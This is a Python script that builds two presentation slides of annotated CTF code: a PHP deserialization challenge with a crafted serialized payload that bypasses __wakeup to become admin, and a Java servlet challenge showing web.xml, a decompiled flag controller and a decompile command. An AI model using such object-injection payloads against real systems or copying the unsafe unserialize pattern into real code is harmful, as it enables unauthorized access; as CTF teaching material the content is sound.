

"""Build two slides of annotated code listings joined by arrows."""
from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Emu, Pt

PX = 9144
PANEL, BORDER, MARK, ARROW = "F6F5BD", "203359", "C81D31", "C00000"
COMMENT, INK = "92D050", "000000"
BODY_FONT, COMMENT_FONT = "Calibri", "DejaVu Sans Mono"
LINE_HEIGHT = 1.22
INDENT_PER_POINT = 1.25
TAB_STOP = 152

CLASS_PHP = """/* class.php*/
class Name{
    private $username = 'nonono';
    private $password = 'yesyes';
    public function __construct($username,$password){
        $this->username = $username;
        $this->password = $password;
    }
    function __wakeup(){
        $this->username = 'guest';
    }
    function __destruct(){
        if ($this->password != 100) {
            echo "</br>NO!!!hacker!!!</br>"; echo "You name is: ";
            echo $this->username;echo "</br>"; echo "You password is: ";
            echo $this->password;echo "</br>"; die();}
        if ($this->username === 'admin') {
            global $flag;
            echo $flag;
        }else{
            echo "</br>hello my friend~~</br>sorry i can't give you the flag!";
            die();\t}}}"""

INDEX_PHP = """/* index.php*/
<?php
    include 'class.php';
    $select = $_GET['select'];
    $res=unserialize(@$select);
?>"""

PAYLOAD = (
    "O%3A4%3A%22Name%22%3A3%3A%7Bs%3A14%3A%22%00Name%00username%22%3Bs"
    "%3A5%3A%22admin%22%3Bs%3A14%3A%22%00Name%00password%22%3Bi%3A100%3B%7D"
)

WEB_XML = """/* web.xml */
<servlet>
        <servlet-name>DownloadController</servlet-name>
        <servlet-class>com.wm.ctf.DownloadController</servlet-class>
</servlet>
<servlet-mapping>
        <servlet-name>DownloadController</servlet-name>
        <url-pattern>/Download</url-pattern>
</servlet-mapping>

<servlet>
        <servlet-name>FlagController</servlet-name>
        <servlet-class>com.wm.ctf.FlagController</servlet-class>
</servlet>
<servlet-mapping>
        <servlet-name>FlagController</servlet-name>
        <url-pattern>/Flag</url-pattern>
</servlet-mapping>"""

FLAG_CONTROLLER = """/* flagcontroller.txt*/
@WebServlet(name="FlagController")
public class FlagController
extends HttpServlet {
    String flag = "ZmxhZ3tkNTY1ZjdlNy01ZjhiLTQ5NjgtYjk5OC1mNTE0M2EzYzE1ZWV9Cg==";


    protected void doGet(HttpServletRequest httpServletRequest, HttpServletResponse httpServletResponse) throws ServletException, IOException {
        PrintWriter printWriter = httpServletResponse.getWriter();
        printWriter.print("<h1>Flag is nearby ~ Come on! ! !</h1>");
    }
}"""

DECOMPILE = "cfr-decompiler _WEB-INF_classes_com_wm_ctf_FlagController.class > flagcontroller.txt"

SLIDES = [
    {
        "panels": [
            ((90, 66, 676, 618), CLASS_PHP, 16, 16),
            ((877, 79, 329, 190), INDEX_PHP, 18, 16),
            ((863, 375, 334, 236), PAYLOAD, 18, 16),
        ],
        "marks": [
            (156, 404, 241, 25),
            (163, 509, 265, 25),
            (113, 298, 267, 77),
            (963, 205, 117, 25),
        ],
        "arrows": [
            (397, 327, 844, 429),
            (412, 416, 840, 447),
            (446, 523, 844, 464),
            (1042, 354, 1057, 239),
        ],
    },
    {
        "panels": [
            ((37, 102, 630, 495), WEB_XML, 16, 14),
            ((743, 180, 559, 520), FLAG_CONTROLLER, 16, 14),
            ((743, 67, 559, 70), DECOMPILE, 14, 14),
        ],
        "marks": [(210, 428, 252, 25), (743, 319, 559, 56)],
        "arrows": [(472, 428, 729, 114), (962, 152, 1019, 309)],
    },
]


def px(*lengths):
    return [Emu(round(length * PX)) for length in lengths]


def color(code):
    return RGBColor.from_string(code)


def add_box(page, place, line, width, fill=None):
    box = page.shapes.add_shape(MSO_SHAPE.RECTANGLE, *px(*place))
    box.shadow.inherit = False
    if fill:
        box.fill.solid()
        box.fill.fore_color.rgb = color(fill)
    else:
        box.fill.background()
    box.line.color.rgb = color(line)
    box.line.width = Pt(width)
    return box


def write_line(para, text, *, size, font=BODY_FONT, ink=INK, indent=0, before=0):
    para.alignment = PP_ALIGN.LEFT
    para.space_before = Pt(before)
    properties = para._p.get_or_add_pPr()
    properties.set("marL", "0")
    properties.set("indent", str(px(indent)[0]))
    if "\t" in text:
        tabs = SubElement(properties, qn("a:tabLst"))
        SubElement(tabs, qn("a:tab"), pos=str(px(TAB_STOP)[0]), algn="l")
    span = para.add_run()
    span.text = text
    span.font.size = Pt(size)
    span.font.name = font
    span.font.color.rgb = color(ink)


def add_panel(page, place, code, size, comment_size):
    frame = add_box(page, place, BORDER, 1, PANEL).text_frame
    frame.word_wrap = True
    frame.vertical_anchor = MSO_ANCHOR.MIDDLE
    blanks = 0
    for number, line in enumerate(code.splitlines()):
        text = line.lstrip(" ")
        if not text:
            blanks += 1
            continue
        para = frame.add_paragraph() if number else frame.paragraphs[0]
        if text.startswith("/*"):
            write_line(para, text, size=comment_size, font=COMMENT_FONT, ink=COMMENT)
        else:
            level = (len(line) - len(text)) // 4
            write_line(para, text, size=size, indent=level * size * INDENT_PER_POINT,
                       before=round(blanks * size * LINE_HEIGHT, 1))
        blanks = 0


def add_arrow(page, ends):
    arrow = page.shapes.add_connector(MSO_CONNECTOR.STRAIGHT, *px(*ends))
    arrow.line.color.rgb = color(ARROW)
    arrow.line.width = Pt(1)
    SubElement(arrow.line._get_or_add_ln(), qn("a:tailEnd"), type="triangle")
    SubElement(arrow._element.spPr, qn("a:effectLst"))


def main():
    deck = Presentation()
    deck.slide_width, deck.slide_height = px(1333, 750)
    for content in SLIDES:
        page = deck.slides.add_slide(deck.slide_layouts[6])
        for panel in content["panels"]:
            add_panel(page, *panel)
        for place in content["marks"]:
            add_box(page, place, MARK, 2.25)
        for ends in content["arrows"]:
            add_arrow(page, ends)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
